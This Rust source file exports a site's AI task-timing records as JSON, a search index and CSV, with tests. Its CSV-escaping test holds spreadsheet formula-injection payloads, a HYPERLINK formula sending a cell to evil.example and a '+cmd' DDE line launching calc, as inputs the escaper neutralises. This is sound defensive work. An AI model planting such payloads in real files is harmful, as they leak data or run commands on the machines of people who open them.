//! Data exports: data/records.json and data/tasks.csv, exactly as the contract writes them.
//!
//! These types are a contract with readers of the data. Numbers are written in shortest
//! round-trip form (serde_json's), unknown values as null (JSON) or an empty cell (CSV).

use serde::Serialize;

use content::{Task, date_text};
use math::{Spread, Totals, WorkWeek};

use crate::model::{Model, RecordEntry};
use crate::view::Urls;

/// The `totals` object: the whole site's (with `records`) or one record's (without).
#[derive(Debug, Serialize)]
pub struct TotalsJson {
    /// Records counted (site and `stats` totals only).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub records: Option<u64>,
    /// Tasks.
    pub tasks: u64,
    /// Total human estimate in minutes.
    pub human_minutes: f64,
    /// Total AI time in minutes.
    pub ai_minutes: f64,
    /// Total supervisory minutes, or null when no row gave one.
    pub supervisory_minutes: Option<f64>,
    /// Rows with a supervisory time.
    pub supervisory_known: u64,
    /// Sum of known token counts, or null when none is known.
    pub tokens: Option<u64>,
    /// Rows with a known token count.
    pub tokens_known: u64,
    /// True when the token sum leaves out or approximates any row.
    pub tokens_approx: bool,
    /// Total human / total AI.
    pub weighted_leverage: Option<f64>,
    /// Supervised human / supervisory minutes.
    pub weighted_supervisory_leverage: Option<f64>,
    /// The human estimate in working days of the site's `hours_per_day`.
    pub human_working_days: f64,
    /// The human estimate in working weeks of `hours_per_day` x `days_per_week`.
    pub human_working_weeks: f64,
    /// The mean of the tasks' leverage (not weighted), or null without tasks.
    pub mean_leverage: Option<f64>,
    /// The median of the tasks' leverage (the mean of the middle two for an even count).
    pub median_leverage: Option<f64>,
    /// The smallest task leverage.
    pub min_leverage: Option<f64>,
    /// The largest task leverage.
    pub max_leverage: Option<f64>,
}

impl TotalsJson {
    /// The JSON form of totals and of the spread of their tasks' leverage, with working days and
    /// weeks of `week`; `with_records` adds the `records` count.
    pub fn new(totals: &Totals, spread: Option<&Spread>, week: &WorkWeek, with_records: bool) -> TotalsJson {
        let of = |pick: fn(&Spread) -> math::Leverage| spread.map(|s| pick(s).get());
        TotalsJson {
            records: with_records.then_some(totals.records),
            tasks: totals.tasks,
            human_minutes: totals.human.get(),
            ai_minutes: totals.ai.get(),
            supervisory_minutes: totals.supervisory_minutes().map(math::Minutes::get),
            supervisory_known: totals.supervisory_known,
            tokens: totals.tokens().map(|t| t.count),
            tokens_known: totals.tokens_known,
            tokens_approx: totals.tokens_approx(),
            weighted_leverage: totals.weighted_leverage().map(math::Leverage::get),
            weighted_supervisory_leverage: totals.weighted_supervisory_leverage().map(math::Leverage::get),
            human_working_days: totals.human_days(week),
            human_working_weeks: totals.human_weeks(week),
            mean_leverage: of(|s| s.mean),
            median_leverage: of(|s| s.median),
            min_leverage: of(|s| s.min),
            max_leverage: of(|s| s.max),
        }
    }
}

#[derive(Serialize)]
struct SiteJson<'a> {
    title: &'a str,
    base_url: &'a str,
}

/// Writes data/records.json to `out`: every published record and its tasks, ascending by date
/// then slug, as compact JSON with each record on a line of its own, so the file is small (a
/// 10,000-record site's was 79 MB pretty-printed) and a diff of two builds shows which records
/// changed. Records are written one at a time, never held as one document.
pub fn write_records_json(
    model: &Model,
    urls: &Urls,
    out: &mut (impl std::io::Write + ?Sized),
) -> std::io::Result<()> {
    out.write_all(b"{\"site\":")?;
    serde_json::to_writer(
        &mut *out,
        &SiteJson { title: &model.config.title, base_url: &model.config.base_url },
    )?;
    out.write_all(b",\"totals\":")?;
    let week = model.config.work_week();
    serde_json::to_writer(&mut *out, &TotalsJson::new(&model.totals, model.spread.as_ref(), &week, true))?;
    out.write_all(b",\"records\":[")?;
    // Each record is written into one reused buffer and handed on in a single write: serde_json
    // writes a key, a quote or a comma at a time, and each of those through `out` was a call
    // through a trait object.
    let mut line: Vec<u8> = Vec::with_capacity(16 * 1024);
    for (i, entry) in model.records.iter().enumerate() {
        line.clear();
        line.extend_from_slice(if i == 0 { b"\n" } else { b",\n" });
        push_entry(&mut line, model, urls, entry)?;
        out.write_all(&line)?;
    }
    out.write_all(b"\n]}\n")
}

/// Appends the record of `entry` as records.json writes it.
fn push_entry(out: &mut Vec<u8>, model: &Model, urls: &Urls, entry: &RecordEntry) -> serde_json::Result<()> {
    let document = model.document(entry);
    push_record(
        out,
        &RecordFields {
            slug: &document.slug,
            date: &date_text::iso(model.date(entry)),
            title: &document.title,
            url: &urls.url(&Urls::record_path(&document.slug)),
            // As the site names them: tags that share a page are one tag, a workstream is
            // named as its page names it, so the data groups as the site does.
            tags: &model.tag_names(entry),
            draft: document.draft,
            totals: &TotalsJson::new(&entry.totals, entry.spread.as_ref(), &model.config.work_week(), false),
        },
        tasks_of(model, entry),
    )
}

/// What the data files hold of the record of `entry`, as a hash: its records.json line, from
/// which its rows of tasks.csv are made too. `serve` writes the data files again only when an
/// edit changes it (most edits are to prose, which neither file holds).
/// The record's AI labels (its own and each table's), which the search index holds and the line
/// does not, are hashed with it; the index's one other field, the date as pages write it, follows
/// from the line's date. `None` when the line cannot be written, which the data files' writing
/// then reports.
pub fn entry_fingerprint(model: &Model, entry: &RecordEntry) -> Option<u64> {
    let mut line = Vec::with_capacity(4 * 1024);
    push_entry(&mut line, model, &Urls::new(&model.config.base_url), entry).ok()?;
    line.push(0);
    line.extend_from_slice(entry.ai_label.as_bytes());
    for table in &model.record(entry).tables {
        line.push(0);
        line.extend_from_slice(table.ai_label.as_bytes());
    }
    Some(xxhash_rust::xxh3::xxh3_64(&line))
}

/// Each task of a record with the agent its table names and its workstream as the site names it.
fn tasks_of<'m>(
    model: &'m Model,
    entry: &'m RecordEntry,
) -> impl Iterator<Item = (&'m Task, &'m str, Option<&'m str>)> {
    let tasks = model.record(entry).tasks_with_tables().map(|(table, task)| (task, table.ai_label.as_str()));
    tasks.zip(model.stream_names(entry)).map(|((task, agent), stream)| (task, agent, stream))
}

/// A record's own fields in records.json, before its tasks.
#[cfg_attr(test, derive(Serialize))]
struct RecordFields<'a> {
    slug: &'a str,
    date: &'a str,
    title: &'a str,
    url: &'a str,
    tags: &'a [&'a str],
    /// Only a build with `--drafts` exports one that is.
    draft: bool,
    totals: &'a TotalsJson,
}

/// Appends one record of records.json: its fields, then its tasks, in the contract's order.
///
/// Records and tasks are written key by key rather than through `#[derive(Serialize)]`: serde_json
/// escapes every key of every struct it writes, character by character, and at 10,000 records
/// (150,000 tasks of eleven keys each) the keys were half of the file's cost. Every value still
/// goes through serde_json, so strings are escaped and numbers written exactly as it writes them;
/// a test holds the output byte-equal to the derived form's.
fn push_record<'t, 's>(
    out: &mut Vec<u8>,
    record: &RecordFields<'_>,
    tasks: impl Iterator<Item = (&'t Task, &'t str, Option<&'s str>)>,
) -> serde_json::Result<()> {
    string_field(out, b"{\"slug\":", record.slug)?;
    string_field(out, b",\"date\":", record.date)?;
    string_field(out, b",\"title\":", record.title)?;
    string_field(out, b",\"url\":", record.url)?;
    field(out, b",\"tags\":", record.tags)?;
    field(out, b",\"draft\":", &record.draft)?;
    field(out, b",\"totals\":", record.totals)?;
    out.extend_from_slice(b",\"tasks\":[");
    for (i, (task, agent, stream)) in tasks.enumerate() {
        if i > 0 {
            out.push(b',');
        }
        push_task(out, task, agent, stream)?;
    }
    out.extend_from_slice(b"]}");
    Ok(())
}

/// Appends one task of records.json (see `push_record`), of `agent` (its table's AI label), in
/// `stream`, its workstream as the site names it.
fn push_task(out: &mut Vec<u8>, task: &Task, agent: &str, stream: Option<&str>) -> serde_json::Result<()> {
    let f = &task.figures;
    string_field(out, b"{\"task\":", task.plain_text())?;
    match stream {
        Some(stream) => string_field(out, b",\"workstream\":", stream)?,
        None => out.extend_from_slice(b",\"workstream\":null"),
    }
    string_field(out, b",\"agent\":", agent)?;
    number_field(out, b",\"human_minutes\":", Some(f.human().get()))?;
    number_field(out, b",\"ai_minutes\":", Some(f.ai().get()))?;
    number_field(out, b",\"supervisory_minutes\":", f.supervisory().map(math::Minutes::get))?;
    field(out, b",\"tokens\":", &f.tokens().map(|t| t.count))?;
    field(out, b",\"tokens_approx\":", &f.tokens().is_some_and(|t| t.approx))?;
    number_field(out, b",\"leverage\":", Some(f.leverage().get()))?;
    number_field(out, b",\"stated_leverage\":", task.stated_leverage.as_ref().map(|c| c.value.value))?;
    number_field(out, b",\"supervisory_leverage\":", f.supervisory_leverage().map(math::Leverage::get))?;
    number_field(
        out,
        b",\"stated_supervisory_leverage\":",
        task.stated_supervisory_leverage.as_ref().map(|c| c.value.value),
    )?;
    out.push(b'}');
    Ok(())
}

/// Appends `key` and a number (or `null`), as serde_json writes it.
fn number_field(out: &mut Vec<u8>, key: &[u8], value: Option<f64>) -> serde_json::Result<()> {
    out.extend_from_slice(key);
    match value {
        Some(value) => number(out, value),
        None => {
            out.extend_from_slice(b"null");
            Ok(())
        }
    }
}

/// Appends a number as serde_json writes it (shortest round-trip form; `null` when not finite).
/// A whole number below 10^15 (most minutes and many leverages: `210.0`) is written here, its
/// digits and `.0`: finding the shortest form was a fifth of records.json's cost.
fn number(out: &mut Vec<u8>, value: f64) -> serde_json::Result<()> {
    // Below 10^15 the conversion is exact, so a value equal to its whole part is whole (NaN is
    // not below anything); `fract` would be a call into libm.
    let whole = value as i64;
    if value.abs() < 1e15 && whole as f64 == value && !(value == 0.0 && value.is_sign_negative()) {
        let mut buffer = [0; math::display::UNITS_BUF];
        out.extend_from_slice(math::display::units_bytes(&mut buffer, whole < 0, whole.unsigned_abs(), 0));
        out.extend_from_slice(b".0");
        return Ok(());
    }
    json(out, &value)
}

/// Appends `value` as serde_json writes it.
fn json(out: &mut Vec<u8>, value: &(impl Serialize + ?Sized)) -> serde_json::Result<()> {
    serde_json::to_writer(out, value)
}

/// Appends `key` and `text` as a JSON string, as serde_json writes it. Most texts (task
/// descriptions, titles, URLs) hold nothing to escape and are copied whole: serde_json looks at
/// them a byte at a time, 1.4% of a build's instructions on the tasks' descriptions alone.
fn string_field(out: &mut Vec<u8>, key: &[u8], text: &str) -> serde_json::Result<()> {
    out.extend_from_slice(key);
    // serde_json escapes control characters, `"` and `\`; the fold has no early exit, so it is
    // done sixteen bytes at a time.
    let escaped = text.bytes().fold(false, |escaped, b| escaped | (b < 0x20) | (b == b'"') | (b == b'\\'));
    if escaped {
        return json(out, text);
    }
    out.push(b'"');
    out.extend_from_slice(text.as_bytes());
    out.push(b'"');
    Ok(())
}

/// Appends `key` (the bytes before a value: a comma, the quoted key and its colon) and `value`.
fn field(out: &mut Vec<u8>, key: &[u8], value: &(impl Serialize + ?Sized)) -> serde_json::Result<()> {
    out.extend_from_slice(key);
    json(out, value)
}

/// Writes `search/index.json` to `out`: what the search page searches, one record a line,
/// newest first, as the page lists what it finds. Each record holds its URL, its date (ISO, and
/// as pages write it: `March 9, 2026`), title, tags and AI label, and its tasks as rows of
/// `fields`: the task as plain text, its workstream as the site names it (or null), its human
/// and AI times and leverage as the record's page shows them, and its human and AI minutes as
/// records.json writes them, from which the page totals the tasks it lists (as `math` does: on
/// whole millionths of a minute, shown by the display rules; a browser test holds the page's
/// arithmetic to `math`'s). Prose is left out: a record's data
/// is a tenth of its page, and the index is fetched whole.
pub fn write_search_index(
    model: &Model,
    urls: &Urls,
    out: &mut (impl std::io::Write + ?Sized),
) -> std::io::Result<()> {
    use math::display;
    out.write_all(
        b"{\"fields\":[\"task\",\"workstream\",\"human\",\"ai\",\"leverage\",\"human_minutes\",\"ai_minutes\"]",
    )?;
    // The page of each tag and workstream, by the name the site gives it (and the index writes):
    // the page links what it lists.
    let tags: std::collections::BTreeMap<&str, String> =
        model.tags.iter().map(|(slug, t)| (t.name.as_str(), urls.url(&Urls::tag_path(slug)))).collect();
    let streams: std::collections::BTreeMap<&str, String> = model
        .workstreams
        .iter()
        .map(|(slug, w)| (w.name.as_str(), urls.url(&Urls::workstream_path(slug))))
        .collect();
    out.write_all(b",\"tag_urls\":")?;
    serde_json::to_writer(&mut *out, &tags)?;
    out.write_all(b",\"workstream_urls\":")?;
    serde_json::to_writer(&mut *out, &streams)?;
    out.write_all(b",\"records\":[")?;
    let mut line: Vec<u8> = Vec::with_capacity(4 * 1024);
    for (i, entry) in model.records.iter().rev().enumerate() {
        let document = model.document(entry);
        line.clear();
        line.extend_from_slice(if i == 0 { b"\n" } else { b",\n" });
        string_field(&mut line, b"{\"url\":", &urls.url(&Urls::record_path(&document.slug)))?;
        string_field(&mut line, b",\"date\":", &date_text::iso(model.date(entry)))?;
        string_field(&mut line, b",\"date_display\":", &date_text::long(model.date(entry)))?;
        string_field(&mut line, b",\"title\":", &document.title)?;
        field(&mut line, b",\"tags\":", &model.tag_names(entry))?;
        string_field(&mut line, b",\"ai_label\":", &entry.ai_label)?;
        // A day of several agents' tables (Claude's and Codex's) names each task's, as its
        // tables' headers do; its own label is then `AI`.
        let record = model.record(entry);
        if record.tables.iter().any(|table| !crate::model::same_agent(&table.ai_label, &entry.ai_label)) {
            let labels: Vec<&str> =
                record.tasks_with_tables().map(|(table, _)| table.ai_label.as_str()).collect();
            field(&mut line, b",\"ai_labels\":", &labels)?;
        }
        line.extend_from_slice(b",\"tasks\":[");
        for (t, (task, stream)) in record.tasks().zip(model.stream_names(entry)).enumerate() {
            let f = &task.figures;
            string_field(&mut line, if t == 0 { b"[" } else { b",[" }, task.plain_text())?;
            match stream {
                Some(stream) => string_field(&mut line, b",", stream)?,
                None => line.extend_from_slice(b",null"),
            }
            string_field(&mut line, b",", &display::duration(f.human()))?;
            string_field(&mut line, b",", &display::duration(f.ai()))?;
            string_field(&mut line, b",", &display::leverage(f.leverage()))?;
            number_field(&mut line, b",", Some(f.human().get()))?;
            number_field(&mut line, b",", Some(f.ai().get()))?;
            line.push(b']');
        }
        line.extend_from_slice(b"]}");
        out.write_all(&line)?;
    }
    out.write_all(b"\n]}\n")
}

/// Writes data/tasks.csv to `out`, a row at a time: one row per task, RFC 4180 (CRLF line ends,
/// quotes doubled).
pub fn write_tasks_csv(model: &Model, out: &mut (impl std::io::Write + ?Sized)) -> std::io::Result<()> {
    out.write_all(
        b"date,slug,task,workstream,human_minutes,ai_minutes,supervisory_minutes,tokens,leverage,agent,tokens_approx\r\n",
    )?;
    // One reused buffer per row, numbers written into it directly (shortest round-trip form, as
    // records.json writes them).
    let mut row: Vec<u8> = Vec::with_capacity(512);
    let number = |row: &mut Vec<u8>, v: f64| number(row, v).map_err(std::io::Error::from);
    // The record's date and slug, the same at the start of each of its rows.
    let mut record_fields: Vec<u8> = Vec::with_capacity(64);
    for entry in &model.records {
        let document = model.document(entry);
        record_fields.clear();
        push_csv_field(&mut record_fields, &date_text::iso(model.date(entry)));
        record_fields.push(b',');
        // A slug may start with `-` too (`-1-2`, which a spreadsheet reads as -3).
        push_csv_text(&mut record_fields, &document.slug);
        record_fields.push(b',');
        for (task, agent, stream) in tasks_of(model, entry) {
            let f = &task.figures;
            row.clear();
            row.extend_from_slice(&record_fields);
            for text in [task.plain_text(), stream.unwrap_or("")] {
                push_csv_text(&mut row, text);
                row.push(b',');
            }
            number(&mut row, f.human().get())?;
            row.push(b',');
            number(&mut row, f.ai().get())?;
            row.push(b',');
            if let Some(m) = f.supervisory() {
                number(&mut row, m.get())?;
            }
            row.push(b',');
            if let Some(t) = f.tokens() {
                json(&mut row, &t.count)?;
            }
            row.push(b',');
            number(&mut row, f.leverage().get())?;
            row.push(b',');
            push_csv_text(&mut row, agent);
            row.extend_from_slice(if f.tokens().is_some_and(|t| t.approx) {
                b",true\r\n"
            } else {
                b",false\r\n"
            });
            out.write_all(&row)?;
        }
    }
    Ok(())
}

/// Appends a field of the writer's text (a slug, a task, a workstream) so that a spreadsheet
/// shows it as text: one that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, which
/// Excel, LibreOffice and Google Sheets would run as a formula (`=HYPERLINK(...)`), is written
/// after a `'` and quoted, as OWASP advises for CSV files people open in spreadsheets. So is one
/// that begins with `'`, so that a reader gets every text back by dropping one leading `'`.
fn push_csv_text(out: &mut Vec<u8>, text: &str) {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
        push_quoted(out, "'", text);
    } else {
        push_csv_field(out, text);
    }
}

/// Appends a field, quoted when it holds a comma, a quote or a line break (RFC 4180). The four
/// bytes are looked for with memchr's vectorised searches: a `char` pattern decoded and compared
/// every character of every task's text, half of tasks.csv's cost.
fn push_csv_field(out: &mut Vec<u8>, field: &str) {
    let bytes = field.as_bytes();
    if memchr::memchr3(b',', b'"', b'\n', bytes).is_some() || memchr::memchr(b'\r', bytes).is_some() {
        push_quoted(out, "", field);
    } else {
        out.extend_from_slice(field.as_bytes());
    }
}

/// Appends `prefix` and `text` as one quoted field, its quotes doubled (RFC 4180).
fn push_quoted(out: &mut Vec<u8>, prefix: &str, text: &str) {
    out.push(b'"');
    out.extend_from_slice(prefix.as_bytes());
    out.extend_from_slice(text.replace('"', "\"\"").as_bytes());
    out.push(b'"');
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A task as records.json wrote it through `#[derive(Serialize)]`: the definition `push_task`
    /// keeps.
    #[derive(Serialize)]
    struct TaskJson<'a> {
        task: &'a str,
        workstream: Option<&'a str>,
        agent: &'a str,
        human_minutes: f64,
        ai_minutes: f64,
        supervisory_minutes: Option<f64>,
        tokens: Option<u64>,
        tokens_approx: bool,
        leverage: f64,
        stated_leverage: Option<f64>,
        supervisory_leverage: Option<f64>,
        stated_supervisory_leverage: Option<f64>,
    }

    /// A record as records.json wrote it through `#[derive(Serialize)]`.
    #[derive(Serialize)]
    struct RecordJson<'a> {
        #[serde(flatten)]
        fields: &'a RecordFields<'a>,
        tasks: Vec<TaskJson<'a>>,
    }

    fn task_json<'a>((table, task): (&'a content::TaskTable, &'a Task)) -> TaskJson<'a> {
        let f = &task.figures;
        TaskJson {
            task: task.plain_text(),
            workstream: task.workstream.as_ref().map(|c| &*c.value),
            agent: &table.ai_label,
            human_minutes: f.human().get(),
            ai_minutes: f.ai().get(),
            supervisory_minutes: f.supervisory().map(math::Minutes::get),
            tokens: f.tokens().map(|t| t.count),
            tokens_approx: f.tokens().is_some_and(|t| t.approx),
            leverage: f.leverage().get(),
            stated_leverage: task.stated_leverage.as_ref().map(|c| c.value.value),
            supervisory_leverage: f.supervisory_leverage().map(math::Leverage::get),
            stated_supervisory_leverage: task.stated_supervisory_leverage.as_ref().map(|c| c.value.value),
        }
    }

    /// A record whose tasks take every optional field both ways, and whose text needs escaping
    /// (quotes, backslashes, markup, control and non-ASCII characters).
    /// (A control character in the front matter is an error, so it is in a task's name.)
    const RECORD: &str = concat!(
        r#"+++
title = "Say \"hi\" \\ <b>&amp; \u2028"
date = 2026-02-28
tags = ['a"b', "é", "tab\tx"]
+++

| # | Task | Workstream | Human Est. | Claude | Sup. | Tokens | Factor | Sup. Factor |
|---|---|---|---|---|---|---|---|---|
| 1 | Fix "quotes", \\ and <tags> \u{7f} "#,
        "\u{1}\u{7f}",
        r#" | core | 2h | 10min | 5min | ~12k | 12x | 24x |
| 2 | **Bold** task é 🦀 | | 30min | 7min | | | | |
| 3 | Third | Ops "x" | 1.5d | 8.6m | 1h | 1,234 | 1.0x | |
| 4 | Fourth | | 1w | 45 min | | 45k | | 3x |
"#
    );

    #[test]
    fn records_are_written_as_their_derived_serde_form_writes_them() {
        let mut sources = content::Sources::new();
        let file = sources.add("content/records/2026-02-28.md", RECORD.to_string());
        let parsed = content::parse_document(&sources, file, &content::Options::default());
        // Only the warnings that `<tags>` is read as a tag, that a tag holds a tab and that a
        // task holds control characters: the markup, the tab and the controls are there to be
        // escaped.
        assert!(
            parsed.diagnostics.iter().all(|d| d.message.contains("`<tags>` as an HTML tag")
                || d.message.contains("found a tab")
                || d.message.starts_with("a control character, \\u{1}, is in the text (and 1 more")),
            "{:?}",
            parsed.diagnostics
        );
        let document = parsed.document.as_ref().expect("a document");
        let record = document.record().expect("a record");
        assert_eq!(record.tasks().count(), 4, "{:?}", parsed.diagnostics);
        let spread = Spread::of(record.tasks().map(|t| t.figures.leverage()));
        let totals = TotalsJson::new(
            &Totals::of_record(record.tasks().map(|t| &t.figures), None),
            spread.as_ref(),
            &WorkWeek::default(),
            false,
        );
        let tags: Vec<&str> = document.tags.iter().map(|t| t.value.as_str()).collect();
        let fields = RecordFields {
            slug: &document.slug,
            date: "2026-02-28",
            title: &document.title,
            url: "https://example.org/records/2026-02-28/",
            tags: &tags,
            draft: document.draft,
            totals: &totals,
        };
        let mut written = Vec::new();
        let tasks = record
            .tasks_with_tables()
            .map(|(table, t)| (t, table.ai_label.as_str(), t.workstream.as_ref().map(|c| &*c.value)));
        push_record(&mut written, &fields, tasks).expect("writing to a Vec");
        let derived = serde_json::to_vec(&RecordJson {
            fields: &fields,
            tasks: record.tasks_with_tables().map(task_json).collect(),
        })
        .expect("serializing");
        assert_eq!(String::from_utf8(written).expect("UTF-8"), String::from_utf8(derived).expect("UTF-8"));
    }

    fn csv_field(field: &str) -> String {
        let mut out = Vec::new();
        push_csv_field(&mut out, field);
        String::from_utf8(out).expect("UTF-8 in, UTF-8 out")
    }

    #[test]
    fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
        let text = |field: &str| {
            let mut out = Vec::new();
            push_csv_text(&mut out, field);
            String::from_utf8(out).expect("UTF-8")
        };
        assert_eq!(
            text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(text("@SUM(1+1)"), "\"'@SUM(1+1)\"");
        assert_eq!(text("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
        assert_eq!(text("-2+3"), "\"'-2+3\"");
        assert_eq!(text("\tx"), "\"'\tx\"");
        // Anything else is written as any field is.
        assert_eq!(text("Fix the parser"), "Fix the parser");
        assert_eq!(text("a = b, c"), "\"a = b, c\"");
    }

    #[test]
    fn quotes_fields_per_rfc_4180() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_field("carriage\rreturn"), "\"carriage\rreturn\"");
        assert_eq!(csv_field("é, 🦀"), "\"é, 🦀\"");
        assert_eq!(csv_field(""), "");
    }

    use proptest::strategy::Strategy;

    fn number_text(value: f64) -> String {
        let mut out = Vec::new();
        number(&mut out, value).expect("writes to a Vec");
        String::from_utf8(out).expect("ASCII")
    }

    #[test]
    fn numbers_are_written_as_serde_json_writes_them() {
        for value in [
            0.0,
            -0.0,
            1.0,
            -1.0,
            210.0,
            9.3,
            0.5,
            1e15,
            1e15 - 1.0,
            -1e15 + 1.0,
            1e16,
            1e21,
            999_999_999_999_999.0,
            f64::NAN,
            f64::INFINITY,
            f64::NEG_INFINITY,
            f64::MIN_POSITIVE,
            70.58823529411765,
        ] {
            assert_eq!(number_text(value), serde_json::to_string(&value).expect("serialises"), "{value}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_number_is_written_as_serde_json_writes_it(
            value in proptest::prop_oneof![
                proptest::num::f64::ANY,
                (-2_000_000_000_000_000i64..2_000_000_000_000_000).prop_map(|n| n as f64),
                (-100_000i64..100_000).prop_map(|n| n as f64 / 10.0),
            ]
        ) {
            proptest::prop_assert_eq!(number_text(value), serde_json::to_string(&value).expect("serialises"));
        }

        #[test]
        fn any_string_is_written_as_serde_json_writes_it(text in "(\\PC|[\u{0}-\u{1f}\"\\\\\u{7f}])*") {
            let mut out = Vec::new();
            string_field(&mut out, b"", &text).expect("writes");
            proptest::prop_assert_eq!(out, serde_json::to_vec(&text).expect("serialises"));
        }

        #[test]
        fn a_field_is_quoted_when_a_csv_reader_needs_it_and_reads_back(field in "[a-c,\"\r\n é🦀]{0,12}") {
            let written = csv_field(&field);
            let needs_quotes = field.contains([',', '"', '\r', '\n']);
            proptest::prop_assert_eq!(written.starts_with('"') && written.len() > field.len(), needs_quotes);
            let read = if needs_quotes {
                written[1..written.len() - 1].replace("\"\"", "\"")
            } else {
                written.clone()
            };
            proptest::prop_assert_eq!(read, field);
        }
    }
}
